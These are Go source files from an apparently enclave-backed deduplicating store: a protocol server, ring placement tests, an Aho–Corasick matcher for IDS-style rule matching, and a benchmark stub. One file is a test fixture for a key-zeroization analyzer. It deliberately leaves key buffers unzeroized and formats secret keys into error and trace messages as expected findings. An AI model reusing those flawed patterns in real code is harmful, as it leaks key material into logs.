	maxProtocol int

	// slowThreshold, when positive, logs one structured line for any
	// request whose dispatch exceeds it (see WithSlowRequestLog);
	// slowLast is the rate limiter.
	slowThreshold time.Duration
	slowLast      atomic.Int64

	// Auth-failure totals folded from every session's channel counters
	// (deltas, like the wire-byte accounting), exported through the
	// AuthFailures/AuthFailBytes accessors and, with telemetry, the
	// speed_wire_auth_* counters.
	authFails     atomic.Int64
	authFailBytes atomic.Int64

	mu     sync.Mutex
	conns  map[net.Conn]struct{}
	closed bool
	wg     sync.WaitGroup

	tel *serverMetrics
}

// serverMetrics is the server's pre-registered metric set (see
// WithTelemetry).
type serverMetrics struct {
	reg           *telemetry.Registry
	connections   *telemetry.Counter
	active        *telemetry.Gauge
	inflight      *telemetry.Gauge
	bytesIn       *telemetry.Counter
	bytesOut      *telemetry.Counter
	authFails     *telemetry.Counter
	authFailBytes *telemetry.Counter
	getSeconds    *telemetry.Histogram
	putSeconds    *telemetry.Histogram
	batchSize     *telemetry.Histogram
}

func newServerMetrics(reg *telemetry.Registry) *serverMetrics {
	if reg == nil {
		return nil
	}
	return &serverMetrics{
		reg: reg,
		connections: reg.NewCounter("speed_server_connections_total",
			"accepted client connections that completed the handshake"),
		active: reg.NewGauge("speed_server_active_connections",
			"currently attached client connections"),
		inflight: reg.NewGauge("speed_server_inflight_requests",
			"requests currently being parsed, executed or written across all sessions"),
		bytesIn: reg.NewCounter("speed_server_wire_bytes_in_total",
			"wire bytes received from clients, including framing"),
		bytesOut: reg.NewCounter("speed_server_wire_bytes_out_total",
			"wire bytes sent to clients, including framing"),
		authFails: reg.NewCounter("speed_wire_auth_failures_total",
			"received frames that failed AEAD authentication"),
		authFailBytes: reg.NewCounter("speed_wire_auth_fail_bytes_total",
			"bytes (payload plus framing) of frames that failed AEAD authentication"),
		getSeconds: reg.NewHistogram("speed_server_request_seconds",
			"request service latency from dispatch to reply written",
			telemetry.L("op", "get")),
		putSeconds: reg.NewHistogram("speed_server_request_seconds",
			"request service latency from dispatch to reply written",
			telemetry.L("op", "put")),
		batchSize: reg.NewHistogram("speed_store_batch_size",
			"items per batch GET/PUT request (bucket values are item counts, not seconds)"),
	}
}

// ServerOption configures a Server.
type ServerOption func(*Server)

// WithAcceptFunc restricts which attested client measurements are
// admitted. The default accepts any client that passes attestation.
func WithAcceptFunc(accept func(enclave.Measurement) bool) ServerOption {
	return func(s *Server) { s.accept = accept }
}

// WithLogf sets the diagnostic logger. The default logs via the
// standard logger; pass a no-op to silence.
func WithLogf(logf func(format string, args ...any)) ServerOption {
	return func(s *Server) { s.logf = logf }
}

// WithTrust accepts clients from remote machines whose platform
// attestation keys are in the trust set (remote attestation). Without
// it only same-platform clients can connect.
func WithTrust(trust *wire.Trust) ServerOption {
	return func(s *Server) { s.trust = trust }
}

// WithHandshakeTimeout bounds the attested handshake of a new
// connection, shedding half-open peers. Defaults to 10s; zero or
// negative disables the bound.
func WithHandshakeTimeout(d time.Duration) ServerOption {
	return func(s *Server) { s.handshakeTimeout = d }
}

// WithIdleTimeout closes a connection when no request arrives within
// d. Clients reconnect transparently (RemoteClient re-dials), so this
// only sheds abandoned sessions. Defaults to 5m; zero or negative
// disables the bound.
func WithIdleTimeout(d time.Duration) ServerOption {
	return func(s *Server) { s.idleTimeout = d }
}

// WithWriteTimeout bounds each response write, so a peer that stops
// reading cannot wedge a handler. Defaults to 30s; zero or negative
// disables the bound.
func WithWriteTimeout(d time.Duration) ServerOption {
	return func(s *Server) { s.writeTimeout = d }
}

// WithMaxInflight caps the number of requests a single v2 session may
// have executing concurrently (its worker-pool size). A client that
// pipelines more requests than the cap is simply not read from until a
// slot frees, providing natural backpressure. Defaults to 32; values
// below 1 are clamped to 1. v1 sessions are inherently serial.
func WithMaxInflight(n int) ServerOption {
	return func(s *Server) {
		if n < 1 {
			n = 1
		}
		s.maxInflight = n
	}
}

// WithMaxProtocol pins the highest protocol version the server offers
// in the attested handshake, used for conservative rollouts and for
// exercising the v1 fallback in tests. Defaults to wire.MaxProtocol.
func WithMaxProtocol(v int) ServerOption {
	return func(s *Server) { s.maxProtocol = v }
}

// WithTelemetry registers the server's connection, wire-byte,
// auth-failure and request-latency metrics with reg, and records
// server-side spans of sampled requests (queue wait plus handler
// execution) into reg's trace ring. A nil registry leaves the server
// uninstrumented.
func WithTelemetry(reg *telemetry.Registry) ServerOption {
	return func(s *Server) { s.tel = newServerMetrics(reg) }
}

// WithSlowRequestLog logs one structured line via the server's logger
// for any request whose dispatch exceeds threshold, rate-limited to
// one line per second so a latency storm cannot flood the log. The
// line carries the request's trace ID when it was sampled. Zero or
// negative disables (the default).
func WithSlowRequestLog(threshold time.Duration) ServerOption {
	return func(s *Server) { s.slowThreshold = threshold }
}

// NewServer wraps store with a protocol server listening on ln.
// Call Serve to start accepting and Close to shut down.
func NewServer(st *Store, ln net.Listener, opts ...ServerOption) *Server {
	s := &Server{
		store:            st,
		ln:               ln,
		logf:             log.Printf,
		conns:            make(map[net.Conn]struct{}),
		handshakeTimeout: 10 * time.Second,
		idleTimeout:      5 * time.Minute,
		writeTimeout:     30 * time.Second,
		maxInflight:      32,
		maxProtocol:      wire.MaxProtocol,
	}
	for _, opt := range opts {
		opt(s)
	}
	return s
}

// Addr returns the listener address.
func (s *Server) Addr() net.Addr { return s.ln.Addr() }

// AuthFailures reports the total received frames across all sessions
// that failed AEAD authentication.
func (s *Server) AuthFailures() int64 { return s.authFails.Load() }

// AuthFailBytes reports the total bytes (payload plus framing) of
// frames that failed AEAD authentication across all sessions.
func (s *Server) AuthFailBytes() int64 { return s.authFailBytes.Load() }

// Serve accepts connections until Close is called. Temporary accept
// failures (e.g. EMFILE under file-descriptor pressure) are retried
// with capped exponential backoff rather than killing the server. It
// always returns a non-nil error; after Close the error is
// net.ErrClosed.
func (s *Server) Serve() error {
	var backoff time.Duration
	for {
		conn, err := s.ln.Accept()
		if err != nil {
			s.mu.Lock()
			closed := s.closed
			s.mu.Unlock()
			if closed {
				return net.ErrClosed
			}
			if te, ok := err.(interface{ Temporary() bool }); ok && te.Temporary() {
				if backoff == 0 {
					backoff = 5 * time.Millisecond
				} else if backoff *= 2; backoff > time.Second {
					backoff = time.Second
				}
				s.logf("store: accept: %v; retrying in %v", err, backoff)
				time.Sleep(backoff)
				continue
			}
			return err
		}
		backoff = 0
		s.mu.Lock()
		if s.closed {
			s.mu.Unlock()
			conn.Close()
			return net.ErrClosed
		}
		s.conns[conn] = struct{}{}
		s.wg.Add(1)
		s.mu.Unlock()
		go func() {
			defer s.wg.Done()
			s.handle(conn)
			s.mu.Lock()
			delete(s.conns, conn)
			s.mu.Unlock()
		}()
	}
}

// Close stops the listener, closes active connections, and waits for
// handlers to drain.
func (s *Server) Close() error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return nil
	}
	s.closed = true
	for c := range s.conns {
		c.Close()
	}
	s.mu.Unlock()
	err := s.ln.Close()
	s.wg.Wait()
	return err
}

func (s *Server) handle(conn net.Conn) {
	defer conn.Close()
	if s.handshakeTimeout > 0 {
		_ = conn.SetDeadline(time.Now().Add(s.handshakeTimeout))
	}
	ch, err := wire.ServerHandshakeVersion(conn, s.store.Enclave(), s.accept, s.trust, s.maxProtocol)
	if err != nil {
		s.logf("store: handshake from %v: %v", conn.RemoteAddr(), err)
		return
	}
	_ = conn.SetDeadline(time.Time{})
	owner := ch.Peer()

	// Wire-byte and auth-failure accounting: fold the channel's running
	// totals into the registry counters as deltas, so /metrics tracks
	// live traffic rather than jumping when a connection closes.
	var lastIn, lastOut, lastAF, lastAFB int64
	flushBytes := func() {
		in, out := ch.BytesReceived(), ch.BytesSent()
		af, afb := ch.AuthFailures(), ch.AuthFailBytes()
		s.authFails.Add(af - lastAF)
		s.authFailBytes.Add(afb - lastAFB)
		if s.tel != nil {
			s.tel.bytesIn.Add(in - lastIn)
			s.tel.bytesOut.Add(out - lastOut)
			s.tel.authFails.Add(af - lastAF)
			s.tel.authFailBytes.Add(afb - lastAFB)
		}
		lastIn, lastOut, lastAF, lastAFB = in, out, af, afb
	}
	defer flushBytes()
	if s.tel != nil {
		s.tel.connections.Inc()
		s.tel.active.Add(1)
		defer s.tel.active.Add(-1)
	}
	if ch.Version() >= wire.ProtocolV2 {
		s.handleMux(conn, ch, owner, flushBytes)
		return
	}
	s.handleSerial(conn, ch, owner, flushBytes)
}

// handleSerial services a v1 session: one request at a time, replies in
// request order, no envelopes.
func (s *Server) handleSerial(conn net.Conn, ch *wire.Channel, owner enclave.Measurement, flushBytes func()) {
	for {
		if s.idleTimeout > 0 {
			_ = conn.SetReadDeadline(time.Now().Add(s.idleTimeout))
		}
		msg, err := ch.RecvMessage()
		if err != nil {
			if !errors.Is(err, io.EOF) && !errors.Is(err, net.ErrClosed) && !errors.Is(err, os.ErrDeadlineExceeded) {
				s.logf("store: recv from %v: %v", conn.RemoteAddr(), err)
			}
			return
		}
		var reqHist *telemetry.Histogram
		var reqStart time.Time
		if s.tel != nil {
			switch msg.(type) {
			case wire.GetRequest:
				reqHist = s.tel.getSeconds
			case wire.PutRequest:
				reqHist = s.tel.putSeconds
			}
		}
		if s.tel != nil || s.slowThreshold > 0 {
			reqStart = time.Now()
		}
		reply, err := s.Dispatch(owner, msg)
		if err != nil {
			s.logf("store: dispatch: %v", err)
			return
		}
		if s.slowThreshold > 0 {
			// The v1 protocol has no place for a trace context.
			s.maybeSlowLog(opName(msg), conn.RemoteAddr(), wire.TraceContext{}, time.Since(reqStart))
		}
		if s.writeTimeout > 0 {
			_ = conn.SetWriteDeadline(time.Now().Add(s.writeTimeout))
		}
		if err := ch.SendMessage(reply); err != nil {
			s.logf("store: send to %v: %v", conn.RemoteAddr(), err)
			return
		}
		if s.writeTimeout > 0 {
			_ = conn.SetWriteDeadline(time.Time{})
		}
		if reqHist != nil {
			reqHist.Observe(time.Since(reqStart))
		}
		if s.tel != nil {
			flushBytes()
		}
	}
}

// envelopeJob is one decoded v2 request travelling through the session
// pipeline.
type envelopeJob struct {
	id  uint64
	msg wire.Message
	// tc is the caller's trace context (zero when unsampled or the
	// channel did not negotiate tracing); readAt is when the envelope
	// was decoded, stamped only for sampled requests so the hot path
	// skips the clock read.
	tc     wire.TraceContext
	readAt time.Time
}

// handleMux services a v2 session as a three-stage pipeline: this
// goroutine reads and decodes envelopes, a bounded worker pool executes
// them against the store (so slow PUTs don't block cheap GETs), and a
// single writer goroutine serialises replies back onto the channel —
// possibly out of request order; the request ID lets the client
// correlate. The reader blocks when all workers are busy, so one
// session can never have more than maxInflight requests executing.
func (s *Server) handleMux(conn net.Conn, ch *wire.Channel, owner enclave.Measurement, flushBytes func()) {
	work := make(chan envelopeJob)
	replies := make(chan envelopeJob, s.maxInflight)

	// Writer: drains replies until the channel closes. On a send
	// failure it kills the connection but keeps draining so workers are
	// never wedged on a full replies buffer.
	writerDone := make(chan struct{})
	go func() {
		defer close(writerDone)
		broken := false
		for r := range replies {
			if s.tel != nil {
				s.tel.inflight.Add(-1)
			}
			if broken {
				continue
			}
			if s.writeTimeout > 0 {
				_ = conn.SetWriteDeadline(time.Now().Add(s.writeTimeout))
			}
			if err := ch.SendEnvelope(r.id, r.msg); err != nil {
				s.logf("store: send to %v: %v", conn.RemoteAddr(), err)
				conn.Close()
				broken = true
				continue
			}
			if s.writeTimeout > 0 {
				_ = conn.SetWriteDeadline(time.Time{})
			}
			if s.tel != nil {
				flushBytes()
			}
		}
	}()

	var wg sync.WaitGroup
	wg.Add(s.maxInflight)
	for i := 0; i < s.maxInflight; i++ {
		go func() {
			defer wg.Done()
			for job := range work {
				var reqHist *telemetry.Histogram
				if s.tel != nil {
					switch job.msg.(type) {
					case wire.GetRequest, wire.BatchGetRequest:
						reqHist = s.tel.getSeconds
					case wire.PutRequest, wire.BatchPutRequest:
						reqHist = s.tel.putSeconds
					}
				}
				start := time.Now()
				reply, err := s.Dispatch(owner, job.msg)
				if err != nil {
					// Internal failure (store closed, I/O): the session
					// cannot make progress; kill it. The reader notices
					// the closed conn and unwinds the pipeline.
					s.logf("store: dispatch: %v", err)
					conn.Close()
					if s.tel != nil {
						s.tel.inflight.Add(-1)
					}
					continue
				}
				took := time.Since(start)
				if reqHist != nil {
					reqHist.Observe(took)
				}
				s.recordSpan(job, start)
				s.maybeSlowLog(opName(job.msg), conn.RemoteAddr(), job.tc, took)
				replies <- envelopeJob{id: job.id, msg: reply}
			}
		}()
	}

	// Reader (this goroutine). Exiting the loop unwinds the pipeline:
	// closing work drains the workers, then closing replies drains the
	// writer.
	for {
		if s.idleTimeout > 0 {
			_ = conn.SetReadDeadline(time.Now().Add(s.idleTimeout))
		}
		payload, err := ch.Recv()
		if err != nil {
			if !errors.Is(err, io.EOF) && !errors.Is(err, net.ErrClosed) && !errors.Is(err, os.ErrDeadlineExceeded) {
				s.logf("store: recv from %v: %v", conn.RemoteAddr(), err)
			}
			break
		}
		id, tc, msg, err := ch.ParseEnvelope(payload)
		if err != nil {
			s.logf("store: bad envelope from %v: %v", conn.RemoteAddr(), err)
			break
		}
		// The decoded message aliases the channel's receive scratch; it
		// crosses to a worker (and a PUT's Sealed is retained by the
		// store), so copy before the next Recv reuses the buffer.
		msg = wire.OwnMessage(msg)
		var readAt time.Time
		if tc.Valid() {
			readAt = time.Now()
		}
		if s.tel != nil {
			s.tel.inflight.Add(1)
		}
		work <- envelopeJob{id: id, msg: msg, tc: tc, readAt: readAt}
	}
	close(work)
	wg.Wait()
	close(replies)
	<-writerDone
}

// opName labels a request message for spans and slow-request lines.
func opName(m wire.Message) string {
	switch m.(type) {
	case wire.GetRequest:
		return "store_get"
	case wire.PutRequest:
		return "store_put"
	case wire.BatchGetRequest:
		return "store_batch_get"
	case wire.BatchPutRequest:
		return "store_batch_put"
	case wire.SyncPullRequest:
		return "store_sync_pull"
	case wire.HasBatchRequest:
		return "store_has_batch"
	default:
		return "store_request"
	}
}

// recordSpan records one sampled request's server-side span into the
// registry's trace ring: queue_wait covers envelope decode to worker
// dispatch, handle covers the store operation. The span links to the
// caller's span through ParentID, so /debug/trace?id= on this node
// contributes its part of the assembled cross-node trace.
func (s *Server) recordSpan(job envelopeJob, start time.Time) {
	if s.tel == nil || !job.tc.Valid() {
		return
	}
	now := time.Now()
	queue := start.Sub(job.readAt)
	handle := now.Sub(start)
	s.tel.reg.Trace().Add(telemetry.TraceEvent{
		Time:     now,
		Name:     opName(job.msg),
		TotalNS:  now.Sub(job.readAt).Nanoseconds(),
		TraceID:  job.tc.TraceIDHex(),
		SpanID:   wire.SpanIDHex(wire.NewSpanID()),
		ParentID: wire.SpanIDHex(job.tc.Parent),
		Node:     s.tel.reg.Node(),
		Phases: []telemetry.PhaseSpan{
			{Name: "queue_wait", StartNS: 0, DurNS: queue.Nanoseconds()},
			{Name: "handle", StartNS: queue.Nanoseconds(), DurNS: handle.Nanoseconds()},
		},
	})
}

// slowLogGap rate-limits slow-request logging to one line per gap.
const slowLogGap = time.Second

// maybeSlowLog emits the structured slow-request line when dispatch
// exceeded the WithSlowRequestLog threshold and the rate limiter
// allows it.
func (s *Server) maybeSlowLog(op string, peer net.Addr, tc wire.TraceContext, took time.Duration) {
	if s.slowThreshold <= 0 || took < s.slowThreshold {
		return
	}
	now := time.Now().UnixNano()
	last := s.slowLast.Load()
	if now-last < int64(slowLogGap) || !s.slowLast.CompareAndSwap(last, now) {
		return
	}
	trace := "-"
	if tc.Valid() {
		trace = tc.TraceIDHex()
	}
	s.logf("store: slow request op=%s peer=%v total=%s threshold=%s trace=%s",
		op, peer, took, s.slowThreshold, trace)
}

// Dispatch handles one protocol message on behalf of the attested
// application owner and produces the reply. It is exported so that the
// in-process loopback client can reuse the exact request path without a
// socket.
func (s *Server) Dispatch(owner enclave.Measurement, msg wire.Message) (wire.Message, error) {
	switch m := msg.(type) {
	case wire.GetRequest:
		sealed, found, err := s.store.GetAs(owner, m.Tag)
		switch {
		case errors.Is(err, ErrUnauthorized):
			// Deny without information: an unauthorized application
			// learns nothing about which tags exist.
			return wire.GetResponse{Found: false}, nil
		case err != nil:
			return nil, fmt.Errorf("get %v: %w", m.Tag, err)
		default:
			return wire.GetResponse{Found: found, Sealed: sealed}, nil
		}
	case wire.PutRequest:
		put := s.store.Put
		if m.Replace {
			put = s.store.PutReplace
		}
		_, err := put(owner, m.Tag, m.Sealed)
		switch {
		case errors.Is(err, ErrQuota), errors.Is(err, ErrUnauthorized):
			return wire.PutResponse{OK: false, Err: err.Error()}, nil
		case err != nil:
			return nil, fmt.Errorf("put %v: %w", m.Tag, err)
		default:
			return wire.PutResponse{OK: true}, nil
		}
	case wire.BatchGetRequest:
		if s.tel != nil {
			s.tel.batchSize.Observe(time.Duration(len(m.Tags)))
		}
		resp := wire.BatchGetResponse{Results: make([]wire.GetResult, len(m.Tags))}
		for i, tag := range m.Tags {
			sealed, found, err := s.store.GetAs(owner, tag)
			switch {
			case errors.Is(err, ErrUnauthorized):
				// Deny without information, as in the single-GET case.
			case err != nil:
				return nil, fmt.Errorf("batch get %v: %w", tag, err)
			default:
				resp.Results[i] = wire.GetResult{Found: found, Sealed: sealed}
			}
		}
		return resp, nil
	case wire.BatchPutRequest:
		if s.tel != nil {
			s.tel.batchSize.Observe(time.Duration(len(m.Items)))
		}
		resp := wire.BatchPutResponse{Results: make([]wire.PutResult, len(m.Items))}
		for i, it := range m.Items {
			put := s.store.Put
			if it.Replace {
				put = s.store.PutReplace
			}
			_, err := put(owner, it.Tag, it.Sealed)
			switch {
			case errors.Is(err, ErrQuota), errors.Is(err, ErrUnauthorized):
				resp.Results[i] = wire.PutResult{OK: false, Err: err.Error()}
			case err != nil:
				return nil, fmt.Errorf("batch put %v: %w", it.Tag, err)
			default:
				resp.Results[i] = wire.PutResult{OK: true}
			}
		}
		return resp, nil
	case wire.HasBatchRequest:
		if s.tel != nil {
			s.tel.batchSize.Observe(time.Duration(len(m.Tags)))
		}
		resp := wire.HasBatchResponse{Present: make([]bool, len(m.Tags))}
		for i, tag := range m.Tags {
			// HasAs maps unauthorized to (false, nil) itself, so the
			// deny-without-information property holds per tag.
			present, err := s.store.HasAs(owner, tag)
			if err != nil {
				return nil, fmt.Errorf("has batch %v: %w", tag, err)
			}
			resp.Present[i] = present
		}
		return resp, nil
	case wire.SyncPullRequest:
		max := int(m.Max)
		if max <= 0 || max > wire.MaxBatchItems {
			max = wire.MaxBatchItems
		}
		entries, err := s.store.ExportHotAs(owner, m.MinHits, max)
		if err != nil {
			return nil, fmt.Errorf("sync pull: %w", err)
		}
		resp := wire.SyncPullResponse{Entries: make([]wire.SyncEntry, len(entries))}
		for i, e := range entries {
			resp.Entries[i] = wire.SyncEntry{Tag: e.Tag, Hits: e.Hits, Sealed: e.Sealed}
		}
		return resp, nil
	default:
		return nil, fmt.Errorf("store: unexpected message %v", msg.Kind())
	}
}
