// Package a exercises the keyzero analyzer: zeroize coverage, escape
// exemptions, and logging sinks.
package a

import "fmt"

func deriveKey(purpose string) []byte { return make([]byte, 16) }

// Zeroize stands in for mle.Zeroize.
func Zeroize(b []byte) {
	for i := range b {
		b[i] = 0
	}
}

func bad() byte {
	key := deriveKey("x") // want `key holds key material from deriveKey but is not zeroized`
	return key[0]
}

func good() byte {
	key := deriveKey("x")
	defer Zeroize(key)
	return key[0]
}

func goodClosure() byte {
	key := deriveKey("x")
	defer func() { Zeroize(key) }()
	return key[0]
}

// escapes transfers ownership to the caller: no finding.
func escapes() []byte {
	key := deriveKey("x")
	return key
}

type holder struct{ k []byte }

// stored transfers ownership to the struct: no finding.
func stored() *holder {
	key := deriveKey("x")
	return &holder{k: key}
}

// reassigned re-homes the buffer into another binding: no finding (the
// alias owns it now).
func reassigned() []byte {
	key := deriveKey("x")
	alias := key
	return alias
}

// wrappedKey is ciphertext, not a secret: no finding.
func wrappedOK() byte {
	wrappedKey := deriveKey("x")
	return wrappedKey[0]
}

// truncated slices a producer's result: even with a dutiful Zeroize,
// the bytes beyond the window stay live, so the pattern itself is the
// finding.
func truncated() byte {
	key := deriveKey("x")[:8] // want `truncated slice of key material from deriveKey`
	defer Zeroize(key)
	return key[0]
}

func logsKey(secretKey []byte) error {
	return fmt.Errorf("derivation failed for %x", secretKey) // want `key material secretKey is passed to Errorf`
}

// lenIsFine: len does not leak the buffer contents.
func lenIsFine(secretKey []byte) error {
	return fmt.Errorf("bad length %d", len(secretKey))
}

type tracer struct{}

func (tracer) Tracef(format string, args ...any) {}

func traces(t tracer, passphrase []byte) {
	t.Tracef("handshake with %x", passphrase) // want `key material passphrase is passed to Tracef`
}

// keyID is allowlisted (identifier metadata, not key material).
func namesOK(keyID []byte) {
	fmt.Printf("session %x", keyID)
}
