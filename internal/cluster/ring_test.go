package cluster

import (
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"testing"

	"speed/internal/mle"
)

func ringTag(i int) mle.Tag {
	h := sha256.Sum256([]byte(fmt.Sprintf("ring-sample-%d", i)))
	var t mle.Tag
	copy(t[:], h[:])
	return t
}

func ringNodes(n int) []string {
	nodes := make([]string, n)
	for i := range nodes {
		nodes[i] = fmt.Sprintf("10.0.0.%d:7800", i+1)
	}
	return nodes
}

func TestRingDeterministicAndOrderIndependent(t *testing.T) {
	a := newRing([]string{"n1:1", "n2:1", "n3:1"}, 0)
	b := newRing([]string{"n1:1", "n2:1", "n3:1"}, 0)
	for i := 0; i < 200; i++ {
		tag := ringTag(i)
		if got, want := a.owners(tag, 2), b.owners(tag, 2); got[0] != want[0] || got[1] != want[1] {
			t.Fatalf("tag %d: identical rings disagree: %v vs %v", i, got, want)
		}
	}
	// Reordering the node list must not move data: placement follows
	// the address, not the list position.
	shuffled := newRing([]string{"n3:1", "n1:1", "n2:1"}, 0)
	nameOf := map[int]string{0: "n1:1", 1: "n2:1", 2: "n3:1"}
	shuffledName := map[int]string{0: "n3:1", 1: "n1:1", 2: "n2:1"}
	for i := 0; i < 200; i++ {
		tag := ringTag(i)
		if nameOf[a.owners(tag, 1)[0]] != shuffledName[shuffled.owners(tag, 1)[0]] {
			t.Fatalf("tag %d: placement moved when node list was reordered", i)
		}
	}
}

func TestRingOwnersDistinct(t *testing.T) {
	r := newRing(ringNodes(5), 0)
	for i := 0; i < 500; i++ {
		owners := r.owners(ringTag(i), 3)
		if len(owners) != 3 {
			t.Fatalf("owners returned %d nodes, want 3", len(owners))
		}
		seen := map[int]bool{}
		for _, o := range owners {
			if seen[o] {
				t.Fatalf("duplicate owner %d in %v", o, owners)
			}
			seen[o] = true
		}
	}
	// Asking for more owners than members yields every member once.
	if got := r.owners(ringTag(0), 99); len(got) != 5 {
		t.Errorf("owners(99) = %d nodes, want 5", len(got))
	}
}

// TestRingStability is the consistent-hashing property: adding or
// removing one member remaps roughly 1/N of a large tag sample and
// never touches the placement of the rest.
func TestRingStability(t *testing.T) {
	const samples = 10000
	for _, n := range []int{3, 5, 8} {
		nodes := ringNodes(n)
		before := newRing(nodes, 0)
		grown := newRing(append(append([]string(nil), nodes...), "10.0.1.99:7800"), 0)
		shrunk := newRing(nodes[:n-1], 0)

		remapGrow, remapShrink := 0, 0
		for i := 0; i < samples; i++ {
			tag := ringTag(i)
			p := before.owners(tag, 1)[0]
			if g := grown.owners(tag, 1)[0]; g != p {
				// A tag may only move to the new member, never between
				// the old ones.
				if g != n {
					t.Fatalf("tag %d moved from member %d to old member %d on grow", i, p, g)
				}
				remapGrow++
			}
			if p == n-1 {
				// Its member was removed; it must remap somewhere.
				remapShrink++
				continue
			}
			if s := shrunk.owners(tag, 1)[0]; s != p {
				t.Fatalf("tag %d moved from surviving member %d to %d on shrink", i, p, s)
			}
		}
		// Expected remap fraction is 1/(N+1) on grow and ~1/N on
		// shrink; allow generous slack for vnode placement variance.
		maxGrow := samples * 2 / (n + 1)
		maxShrink := samples * 2 / n
		if remapGrow > maxGrow {
			t.Errorf("n=%d: grow remapped %d/%d tags, want <= %d", n, remapGrow, samples, maxGrow)
		}
		if remapShrink > maxShrink {
			t.Errorf("n=%d: shrink remapped %d/%d tags, want <= %d", n, remapShrink, samples, maxShrink)
		}
		if remapGrow == 0 {
			t.Errorf("n=%d: grow remapped nothing; new member owns no tags", n)
		}
	}
}

// TestRingBalance sanity-checks the vnode spread: with 64 vnodes per
// member no member should own a wildly disproportionate share.
func TestRingBalance(t *testing.T) {
	const samples = 10000
	r := newRing(ringNodes(4), 0)
	counts := make([]int, 4)
	for i := 0; i < samples; i++ {
		counts[r.owners(ringTag(i), 1)[0]]++
	}
	for ni, c := range counts {
		if c < samples/4/3 || c > samples*3/4 {
			t.Errorf("member %d owns %d/%d tags; spread too uneven: %v", ni, c, samples, counts)
		}
	}
}

func TestRingCoordinateUsesTagPrefix(t *testing.T) {
	// The ring coordinate is the tag's leading 8 bytes; two tags that
	// share them land on the same member.
	r := newRing(ringNodes(7), 0)
	var a, b mle.Tag
	binary.BigEndian.PutUint64(a[:8], 0xDEADBEEF12345678)
	binary.BigEndian.PutUint64(b[:8], 0xDEADBEEF12345678)
	b[31] = 0xFF
	if r.owners(a, 1)[0] != r.owners(b, 1)[0] {
		t.Error("tags with identical ring coordinates landed on different members")
	}
}
