// Package pattern is a from-scratch multi-pattern matching engine
// standing in for libpcre over Snort rules in Case 3 of the paper's
// evaluation. It combines an Aho–Corasick automaton for the literal
// "content" strings of a rule set with a Thompson-NFA regular
// expression engine (a PCRE subset) for the "pcre" options, mirroring
// how IDS engines such as Snort pre-filter with multi-pattern search
// before confirming with regexes.
package pattern

import "sort"

// Match is one literal match: the pattern index and the offset of the
// match's last byte + 1 (i.e. the end offset).
type Match struct {
	// Pattern is the index of the matched pattern as passed to
	// NewMatcher.
	Pattern int
	// End is the offset just past the match in the input.
	End int
}

// Matcher is an Aho–Corasick automaton over a fixed pattern set. It is
// immutable after construction and safe for concurrent use.
type Matcher struct {
	patterns [][]byte
	fold     bool

	// Dense automaton: next[state*256+c] is the goto/fail-resolved
	// transition, outputs[state] lists pattern indices ending there.
	next    []int32
	outputs [][]int32
}

// NewMatcher builds the automaton. With caseFold true, matching is
// ASCII case-insensitive.
func NewMatcher(patterns [][]byte, caseFold bool) *Matcher {
	m := &Matcher{fold: caseFold}
	m.patterns = make([][]byte, len(patterns))
	for i, p := range patterns {
		cp := make([]byte, len(p))
		copy(cp, p)
		if caseFold {
			lowerBytes(cp)
		}
		m.patterns[i] = cp
	}
	m.build()
	return m
}

func lowerBytes(b []byte) {
	for i, c := range b {
		if 'A' <= c && c <= 'Z' {
			b[i] = c + 'a' - 'A'
		}
	}
}

func (m *Matcher) build() {
	type trieNode struct {
		children map[byte]int32
		fail     int32
		out      []int32
	}
	nodes := []*trieNode{{children: make(map[byte]int32)}}

	// Phase 1: trie.
	for pi, p := range m.patterns {
		if len(p) == 0 {
			continue
		}
		cur := int32(0)
		for _, c := range p {
			nxt, ok := nodes[cur].children[c]
			if !ok {
				nodes = append(nodes, &trieNode{children: make(map[byte]int32)})
				nxt = int32(len(nodes) - 1)
				nodes[cur].children[c] = nxt
			}
			cur = nxt
		}
		nodes[cur].out = append(nodes[cur].out, int32(pi))
	}

	// Phase 2: BFS failure links.
	queue := make([]int32, 0, len(nodes))
	for _, child := range nodes[0].children {
		nodes[child].fail = 0
		queue = append(queue, child)
	}
	for qi := 0; qi < len(queue); qi++ {
		u := queue[qi]
		for c, v := range nodes[u].children {
			queue = append(queue, v)
			f := nodes[u].fail
			for {
				if nxt, ok := nodes[f].children[c]; ok && nxt != v {
					nodes[v].fail = nxt
					break
				}
				if f == 0 {
					if nxt, ok := nodes[0].children[c]; ok && nxt != v {
						nodes[v].fail = nxt
					} else {
						nodes[v].fail = 0
					}
					break
				}
				f = nodes[f].fail
			}
			nodes[v].out = append(nodes[v].out, nodes[nodes[v].fail].out...)
		}
	}

	// Phase 3: dense goto table with failure resolution.
	m.next = make([]int32, len(nodes)*256)
	m.outputs = make([][]int32, len(nodes))
	for qi := -1; qi < len(queue); qi++ {
		var u int32
		if qi >= 0 {
			u = queue[qi]
		}
		m.outputs[u] = nodes[u].out
		for c := 0; c < 256; c++ {
			if v, ok := nodes[u].children[byte(c)]; ok {
				m.next[int(u)*256+c] = v
			} else if u == 0 {
				m.next[c] = 0
			} else {
				m.next[int(u)*256+c] = m.next[int(nodes[u].fail)*256+c]
			}
		}
	}
}

// FindAll returns every occurrence of every pattern in data, ordered by
// end offset then pattern index.
func (m *Matcher) FindAll(data []byte) []Match {
	var out []Match
	state := int32(0)
	for i, c := range data {
		if m.fold && 'A' <= c && c <= 'Z' {
			c += 'a' - 'A'
		}
		state = m.next[int(state)*256+int(c)]
		for _, pi := range m.outputs[state] {
			out = append(out, Match{Pattern: int(pi), End: i + 1})
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].End != out[j].End {
			return out[i].End < out[j].End
		}
		return out[i].Pattern < out[j].Pattern
	})
	return out
}

// Contains reports which of the patterns occur at least once in data,
// as a boolean vector indexed like the input pattern slice. This is the
// pre-filter operation used for rule matching.
func (m *Matcher) Contains(data []byte) []bool {
	seen := make([]bool, len(m.patterns))
	state := int32(0)
	for _, c := range data {
		if m.fold && 'A' <= c && c <= 'Z' {
			c += 'a' - 'A'
		}
		state = m.next[int(state)*256+int(c)]
		for _, pi := range m.outputs[state] {
			seen[pi] = true
		}
	}
	return seen
}
