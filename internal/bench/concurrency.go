package bench

import (
	"fmt"
	"net"
	"sync"
	"time"

	"speed/internal/dedup"
	"speed/internal/enclave"
	"speed/internal/mle"
	"speed/internal/store"
	"speed/internal/wire"
)

// ConcurrencyRow is one cell of the concurrency sweep: aggregate GET
// throughput for a number of concurrent workers sharing ONE protocol-v2
// connection, each issuing round trips of a given batch size against a
// fully populated store (pure hit workload).
type ConcurrencyRow struct {
